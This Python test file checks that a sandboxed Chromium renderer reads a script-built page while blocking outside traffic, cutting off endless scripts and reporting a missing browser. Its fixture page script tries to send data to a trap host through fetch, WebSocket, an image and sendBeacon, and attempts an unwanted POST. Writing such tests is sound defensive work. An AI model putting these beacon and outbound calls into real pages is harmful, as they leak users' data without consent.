"""Pages that need a real Chromium; CI has one."""

from collections.abc import Callable
from pathlib import Path

import pytest

from tasks.web import browser
from tasks.web import fetch as web
from tests.hostile import Web
from thirdshift.errors import BrowserMissing, LimitExceeded

pytestmark = pytest.mark.slow

SHELL = """<!doctype html><title>Roastery</title>
<div id="root"></div><noscript>Please enable JavaScript.</noscript>
<script src="/app.js"></script>"""
SCRIPT = """
const tell = text => root.insertAdjacentHTML("beforeend", `<p class="told">${text}</p>`);
fetch("/api/article.json").then(r => r.json()).then(article => {
  root.innerHTML = `<main><h1>${article.title}</h1>${article.body}</main>`;
  fetch(TRAP).then(() => tell("came through"), () => tell("was refused"));
  new WebSocket(TRAP.replace("http", "ws"));
  const image = new Image(); image.src = TRAP;
  navigator.sendBeacon(TRAP, "secret");
  fetch("/api/order", {method: "POST", body: "1"}).catch(() => tell("may not post"));
});
"""
BODY = "<p>The old roaster on Teramachi street was taken apart in the spring.</p>" * 6


def test_a_page_that_needs_scripts_is_read_through_the_browser_and_reaches_nothing_else(
    outside: Web, override: Callable[..., None]
) -> None:
    with Web() as own:
        override(WEB__ALLOWED_HOSTS=f'["{own.host}"]', WEB__DELAY_SECONDS=0)
        outside.serve("/", SHELL)
        outside.serve("/app.js", SCRIPT.replace("TRAP", f'"{own.base}/hello"'), "text/javascript")
        outside.serve("/api/article.json", f'{{"title": "Roaster", "body": "{BODY}"}}', "text/json")
        page = web.fetch(outside.base + "/")
        assert page.parsed.needs_browser()
        rendered = browser.render(page)
        assert rendered.rendered
        assert not rendered.parsed.needs_browser()
        assert "old roaster on Teramachi" in rendered.parsed.main_text()
        assert "was refused" in rendered.text
        assert "may not post" in rendered.text
        assert not own.requests
        assert outside.visits("/api/order") == 0


def test_scripts_that_never_end_are_cut_off(outside: Web, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(browser, "SECONDS", 6.0)
    page = web.fetch(outside.serve("/", "<p>Wait.</p><script>while (true) {}</script>"))
    with pytest.raises(LimitExceeded, match="took its browser more than"):
        browser.render(page)


def test_no_browser_is_a_clear_finding(
    override: Callable[..., None], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    override(WEB__BROWSER="off")
    with pytest.raises(BrowserMissing, match="is off"):
        browser.find()
    override(WEB__BROWSER=str(tmp_path / "none"))
    with pytest.raises(BrowserMissing, match="is no program"):
        browser.find()
    override(WEB__BROWSER="")
    monkeypatch.setattr(browser, "_candidates", list)
    with pytest.raises(BrowserMissing, match="No Chromium") as caught:
        browser.find()
    assert "install" in caught.value.remedy
